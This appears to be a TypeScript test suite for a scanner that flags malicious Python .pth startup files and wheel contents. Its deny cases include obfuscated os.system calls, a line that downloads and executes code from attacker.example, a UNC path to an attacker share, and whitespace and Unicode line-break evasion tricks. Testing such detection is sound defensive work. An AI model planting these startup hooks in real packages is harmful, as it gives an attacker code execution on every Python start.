import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { crc32 } from 'node:zlib';
import type { ArtifactReport } from '../../../src/core/decision.ts';
import { scan } from '../../../src/index.ts';
import { scanned } from '../repository/scanned.ts';

type Tree = Readonly<Record<string, string>>;

const command = 'touch loadlock-was-here';
const rank: Readonly<Record<string, number>> = { allow: 0, review: 1, deny: 2 };

/** The gravest decision on any file, with the rules that spoke of more than notes. */
function verdict(reports: Iterable<ArtifactReport>): string {
  let gravest = 'allow';
  for (const { decision } of reports) if (rank[decision]! > rank[gravest]!) gravest = decision;
  return gravest;
}

async function check(cases: readonly (readonly [Tree, string])[]): Promise<void> {
  for (const [tree, expected] of cases)
    assert.equal(verdict((await scanned(tree)).values()), expected, JSON.stringify(tree, null, 1));
}

test('lines of a .pth file that do no harm are allowed, and said to run at every start', async () => {
  const honest: readonly Tree[] = [
    { 'x.pth': 'lib\nvendor\n# a comment\n\n' },
    { 'x.pth': 'import os, sys\n' },
    { 'x.pth': 'import sys; sys.__plen = len(sys.path)\n' },
    // As setuptools makes a namespace package without a file of its own.
    {
      'ns.pth':
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('ns',));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('ns', types.ModuleType('ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    },
    {
      'shim.pth':
        "import os; on = os.environ.get('USE_SHIM', '1') == '1'; on and __import__('_shim').add()\n",
      '_shim/__init__.py':
        'import sys\ndef add():\n    if "shim" not in sys.modules:\n        sys.modules["shim"] = sys.modules[__name__]\n',
    },
    {
      '__editable___pkg_finder.py':
        'import sys\nfrom importlib.machinery import ModuleSpec\nclass Finder:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        return None\n    @classmethod\n    def hook(cls, _path):\n        raise ImportError\ndef install():\n    sys.meta_path.append(Finder)\n    sys.path_hooks.append(Finder.hook)\n',
      '__editable__.pkg.pth': 'import __editable___pkg_finder; __editable___pkg_finder.install()',
    },
    {
      'cover.pth':
        'import sys; exec(\'import os\\nif os.getenv("COVER_START"):\\n try:\\n  import cover\\n except ImportError:\\n  pass\\n else:\\n  cover.start()\')\n',
      'cover/__init__.py': 'started = False\ndef start():\n    global started\n    started = True\n',
    },
    {
      'boot.pth': "import os, sys; __import__('boot.up') and sys.modules['boot.up'].up()\n",
      'boot/__init__.py': '',
      'boot/up.py': 'import logging\ndef up():\n    logging.getLogger(__name__).debug("up")\n',
    },
    { 'lib/pkg.py': 'x = 1\n', 'x.pth': 'lib\nimport pkg\n' },
    { 'x.pth': 'import os; where = sys.prefix\nimport sys; sys.where = where\n' },
    { 'x.pth': '/opt/models/lib\n' },
    { 'x.pth': 'importlib\nimports/more\n' },
  ];
  await check(honest.map((tree) => [tree, 'allow'] as const));
  const { findings } = (await scanned({ 'x.pth': 'import os, sys\n' })).get('x.pth')!;
  assert.deepEqual(
    findings.map(({ rule, severity }) => [rule, severity]),
    [['code-inside', 'low']],
  );
});

test('a line is judged by what it does, here or in modules of the target that it leads to', async () => {
  const go = `import os\ndef go():\n    os.system("${command}")\n`;
  await check(
    [
      { 'x.pth': `import os; os.system("${command}")\n` },
      // site.py has os at hand where it executes the line.
      { 'x.pth': `import x; os.system("${command}")\n` },
      { 'x.pth': `import os; getattr(os, "sys" + "tem")("${command}")\n` },
      { 'x.pth': `import q; exec(line.split("#")[1]) # import os; os.system("${command}")\n` },
      { 'x.pth': 'import sys; exec(open(sitedir + "/notes.txt").read())\n', 'notes.txt': go },
      { 'x.pth': 'import helper; helper.go()\n', 'helper.py': go },
      { 'x.pth': 'import helper; getattr(helper, "g" + "o")()\n', 'helper.py': go },
      { 'x.pth': 'import a; a.b.go()\n', 'a/__init__.py': 'from . import b\n', 'a/b.py': go },
      { 'x.pth': 'lib\nimport helper\n', 'lib/helper.py': `${go}go()\n` },
      { 'x.pth': 'import w\n', 'w.py': `import threading\n${go}threading.Timer(5, go).start()\n` },
      // A configuration that says what a loader runs does not make the start of Python harmless.
      {
        'x.pth': 'import helper; helper.go()\n',
        'helper.py': go,
        'config.json': '{"auto_map": {"AutoModel": "modeling_x.M"}}',
        'modeling_x.py': 'class M:\n    pass\n',
      },
      {
        'x.pth':
          'import urllib.request as u; exec(u.urlopen("https://attacker.example/x").read().decode())\n',
      },
    ].map((tree) => [tree, 'deny'] as const),
  );
});

test('what cannot be seen goes to a person, what is written not to be seen is denied', async () => {
  const run = `os.system("${command}")`;
  await check([
    [{ 'x.pth': 'import elsewhere; elsewhere.start()\n' }, 'review'],
    [{ 'x.pth': '../../outside\n' }, 'review'],
    [{ 'x.pth': '/tmp/modules\n' }, 'deny'],
    [{ 'x.pth': '\\\\attacker.example\\share\n' }, 'deny'],
    [{ 'x.pth': `import sys${' '.repeat(300)}; ${run}\n` }, 'deny'],
    [{ 'x.pth': `import sys; x = "${'a'.repeat(5000)}"\n` }, 'deny'],
    // Each line is executed for itself: the second one runs, whatever the first one opens.
    [{ 'x.pth': `import os; q = (\nimport os; ${run}\n)\n` }, 'deny'],
    [{ 'x.pth': 'import os; q = "\\\n' }, 'deny'],
    // From Python 3.13 on these end a line.
    [{ 'x.pth': 'lib\u2028import os\n' }, 'deny'],
    [{ 'x.pth': 'import \u202eos\n' }, 'deny'],
  ]);
});

test('in a wheel, the line is followed into the other members', async () => {
  const good = 'count = 0\ndef go():\n    global count\n    count += 1\n';
  const bad = `import os\ndef go():\n    os.system("${command}")\n`;
  const line = 'import helper; helper.go()\n';
  for (const [module, grave] of [
    [good, false],
    [bad, true],
  ] as const) {
    const { decision, findings } = await wheel({ 'helper.py': module, 'x.pth': line });
    assert.equal(decision, grave ? 'deny' : 'allow');
    assert.equal(
      findings.some(({ rule, where }) => rule === 'process-started' && where.member === 'x.pth!helper.py'),
      grave,
    );
    assert(!findings.some(({ rule }) => rule === 'startup-module-unseen'));
  }
  const { findings } = await wheel({ 'other.py': good, 'x.pth': line });
  assert(findings.some(({ rule }) => rule === 'startup-module-unseen'));
});

async function wheel(tree: Tree): Promise<ArtifactReport> {
  const folder = mkdtempSync(join(tmpdir(), 'loadlock-'));
  try {
    const path = join(folder, 'pkg-1.0-py3-none-any.whl');
    writeFileSync(path, stored(tree));
    return (await scan([path])).targets[0]!.artifacts[0]!;
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

/** A zip archive of stored members. Source: APPNOTE.TXT, 4.3. */
function stored(tree: Tree): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(tree)) {
    const data = Buffer.from(text);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(33, 8);
    common.writeUInt32LE(crc32(data), 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(data.length, 18);
    common.writeUInt16LE(name.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from(name), data]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    directory.push(
      Buffer.concat([Buffer.from('PK\x01\x02'), Buffer.from([20, 0]), common, tail, Buffer.from(name)]),
    );
    parts.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(directory.length, 8);
  end.writeUInt16LE(directory.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, central, end]);
}
